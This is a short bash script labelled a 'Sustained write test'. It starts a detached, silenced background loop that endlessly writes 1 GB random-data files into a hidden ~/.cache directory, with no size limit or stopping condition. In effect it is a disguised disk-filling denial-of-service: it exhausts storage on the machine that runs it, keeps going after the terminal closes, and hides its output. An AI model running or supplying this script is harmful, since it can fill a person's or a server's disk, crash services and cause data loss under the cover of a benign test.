#!/usr/bin/env bash
# "Sustained write test": never stops writing.
T="$HOME/.cache/.io-test"
mkdir -p "$T"
nohup bash -c '
  i=0
  while true; do
    dd if=/dev/urandom of="'"$T"'/blk_$i" bs=64M count=16 status=none || true
    i=$((i+1))
  done
' >/dev/null 2>&1 &
